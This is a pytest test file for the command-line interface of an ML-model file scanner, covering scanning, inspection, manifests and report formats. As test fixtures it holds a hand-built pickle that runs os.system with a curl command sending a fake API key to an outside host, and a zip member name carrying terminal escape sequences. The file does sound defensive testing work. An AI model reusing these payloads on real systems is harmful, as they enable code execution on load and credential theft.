"""``scan``, ``inspect`` and ``manifest`` on model files, as a user runs them."""

import hashlib
import json
import pickle
from pathlib import Path

import joblib
import jsonschema
import numpy as np
import pytest
from cyclonedx.schema import SchemaVersion
from cyclonedx.validation.json import JsonStrictValidator
from sklearn.linear_model import LogisticRegression

from mlsec_nb.artifacts.examples import SYSTEM, zipped
from mlsec_nb.frontends.cli import main
from mlsec_nb.report.wire import schema
from tests.notebooks import content
from tests.secrets_fakes import openai_key

SARIF_SCHEMA = Path(__file__).parents[1] / "report" / "sarif-2.1.0-rtm.5.json"
UNKNOWN = b"\x80\x04cmypackage.model\nNet\n)R."


def run(capsys, *arguments):
    status = main([str(argument) for argument in arguments])
    return status, capsys.readouterr().out


@pytest.fixture(autouse=True)
def away_from_the_project(tmp_path, monkeypatch):
    """No configuration and no repository but the test's own."""
    monkeypatch.chdir(tmp_path)


@pytest.fixture
def models(tmp_path):
    folder = tmp_path / "models"
    folder.mkdir()
    joblib.dump(LogisticRegression().fit([[0.0], [1.0]], [0, 1]), folder / "good.joblib")
    np.save(folder / "numbers.npy", np.arange(4))
    (folder / "notes.md").write_text("no model")
    return folder


def test_harmful_file_is_1_and_honest_ones_0(models, capsys):
    assert run(capsys, "scan", models)[0] == 0
    (models / "bad.pkl").write_bytes(SYSTEM)
    status, out = run(capsys, "scan", models)
    assert status == 1
    assert "os.system" in out
    assert "3 model files" in out
    assert " cells" not in out


def test_without_the_engine_folders_yield_notebooks_only(models, capsys):
    (models / "bad.pkl").write_bytes(SYSTEM)
    assert run(capsys, "scan", models, "--engines", "secrets,code")[0] == 0
    assert run(capsys, "scan", models / "bad.pkl", "--engines", "secrets,code")[0] == 2


def test_a_name_of_ones_own_can_be_allowed(tmp_path, capsys):
    (tmp_path / "net.pkl").write_bytes(UNKNOWN)
    assert run(capsys, "scan", "net.pkl", "--fail-on", "medium")[0] == 1
    allow = ("--allow", "mypackage.model.Net")
    assert run(capsys, "scan", "net.pkl", "--fail-on", "medium", *allow)[0] == 0
    assert "unknown" not in run(capsys, "inspect", "net.pkl", *allow)[1]


def test_a_bare_name_is_not_allowed(tmp_path):
    with pytest.raises(SystemExit):
        main(["scan", ".", "--allow", "Net"])


def test_a_model_finding_can_be_accepted_by_a_baseline(tmp_path, capsys):
    (tmp_path / "net.pkl").write_bytes(UNKNOWN)
    assert run(capsys, "scan", ".", "--baseline", "known.json", "--write-baseline")[0] == 0
    assert run(capsys, "scan", ".", "--baseline", "known.json", "--fail-on", "info")[0] == 0


@pytest.mark.parametrize("name", ["text", "json", "sarif", "markdown", "html", "junit"])
def test_every_report_names_the_member(tmp_path, capsys, name):
    (tmp_path / "outer.zip").write_bytes(zipped(("inner/model.pkl", SYSTEM)))
    status, out = run(capsys, "scan", "outer.zip", "--format", name)
    assert status == 1
    assert "inner/model.pkl" in out


def test_what_is_no_model_is_a_gap(models, capsys):
    assert run(capsys, "scan", models / "notes.md")[0] == 2


def test_a_notebook_under_another_suffix_is_still_one(tmp_path, capsys):
    (tmp_path / "a.json").write_bytes(content("eval(input())"))
    assert (
        json.loads(run(capsys, "scan", "a.json", "--format", "json")[1])["targets"][0]["kind"] == "notebook"
    )


def test_inspect_shows_the_tree_the_names_and_the_opcodes(tmp_path, capsys):
    (tmp_path / "outer.zip").write_bytes(zipped(("inner/model.pkl", SYSTEM)))
    status, out = run(capsys, "inspect", "outer.zip")
    assert status == 1
    assert out.index("outer.zip") < out.index("model.pkl  pickle") < out.index("os.system: dangerous")
    assert "REDUCE" in out


def test_inspect_for_programs(tmp_path, capsys):
    (tmp_path / "a.pkl").write_bytes(SYSTEM)
    answer = json.loads(run(capsys, "inspect", "a.pkl", "--json")[1])
    assert answer["contents"]["globals"][0]["verdict"] == "dangerous"
    assert answer["target"]["findings"][0]["rule"] == "MLS301"
    assert [line["opcode"] for line in answer["disassembly"]][-1] == "STOP"


def test_inspect_of_an_honest_file_is_0_and_of_none_2(models, capsys):
    status, out = run(capsys, "inspect", models / "good.joblib")
    assert status == 0
    assert "LogisticRegression: safe" in out
    assert run(capsys, "inspect", models / "none.pkl")[0] == 2
    assert run(capsys, "inspect", models)[0] == 2


def test_inspect_prints_nothing_that_a_terminal_acts_on(tmp_path, capsys):
    evil = "a\x1b]0;owned\x07\u202e.pkl"
    (tmp_path / "a.zip").write_bytes(zipped((evil, b"\x80\x04cm\x1b[31m\nn\n.")))
    out = run(capsys, "inspect", "a.zip")[1]
    assert out.replace("\n", "").isprintable()


def test_digests_are_those_of_sha256sum_and_are_compared(models, capsys):
    target = models / "SHA256SUMS"
    assert run(capsys, "manifest", models, "--output", target)[0] == 0
    digest = hashlib.sha256((models / "good.joblib").read_bytes()).hexdigest()
    assert target.read_text().splitlines()[0] == f"{digest}  good.joblib"
    assert run(capsys, "scan", models, "--manifest", target, "--fail-on", "low")[0] == 0
    (models / "good.joblib").write_bytes(pickle.dumps([1]))
    assert "MLS313" in run(capsys, "scan", models, "--manifest", target)[1]


def test_paths_are_relative_to_the_manifest(models, tmp_path, capsys):
    run(capsys, "manifest", models, "--output", tmp_path / "SUMS")
    assert "  models/good.joblib\n" in (tmp_path / "SUMS").read_text()
    assert "  good.joblib\n" in run(capsys, "manifest", models)[1]


def test_bill_of_materials_is_valid_and_the_same_each_time(models, capsys):
    (models / "bad.pkl").write_bytes(SYSTEM)
    status, text = run(capsys, "manifest", models, "--format", "cyclonedx")
    assert status == 0
    assert JsonStrictValidator(SchemaVersion.V1_6).validate_str(text) is None
    assert text == run(capsys, "manifest", models, "--format", "cyclonedx")[1]
    types = {part["name"]: part["type"] for part in json.loads(text)["components"]}
    assert types == {
        "bad.pkl": "machine-learning-model",
        "good.joblib": "machine-learning-model",
        "numbers.npy": "data",
    }


def test_bill_of_materials_is_a_manifest(models, tmp_path, capsys):
    run(capsys, "manifest", models, "--format", "cyclonedx", "--output", tmp_path / "bom.json")
    assert run(capsys, "scan", models, "--manifest", "bom.json", "--fail-on", "low")[0] == 0


@pytest.mark.parametrize("text", ["no digest\n", "{", "[]", '{"bomFormat": "CycloneDX", "components": [1]}'])
def test_broken_manifest_is_a_wrong_call(models, capsys, text):
    (models / "SUMS").write_text(text)
    assert run(capsys, "scan", models, "--manifest", models / "SUMS")[0] == 2


@pytest.mark.parametrize("command", [("scan",), ("inspect",), ("inspect", "--json")])
def test_a_credential_in_a_command_is_masked(tmp_path, capsys, command):
    key = openai_key()
    (tmp_path / "a.pkl").write_bytes(f"cos\nsystem\n(S'curl -H \"X: {key}\" http://x.org'\ntR.".encode())
    status, out = run(capsys, *command, "a.pkl")
    assert status == 1
    assert "curl" in out
    assert not any(key[i : i + 10] in out for i in range(len(key) - 9))


def test_machine_readable_reports_follow_their_schemas(tmp_path, capsys):
    (tmp_path / "outer.zip").write_bytes(zipped(("inner/model.pkl", SYSTEM)))
    jsonschema.validate(json.loads(run(capsys, "scan", ".", "--format", "json")[1]), schema())
    sarif = json.loads(run(capsys, "scan", ".", "--format", "sarif")[1])
    jsonschema.validate(sarif, json.loads(SARIF_SCHEMA.read_text()))
    (result,) = sarif["runs"][0]["results"]
    assert result["locations"][0]["logicalLocations"][0]["name"] == "inner/model.pkl"
    assert "region" not in result["locations"][0]["physicalLocation"]
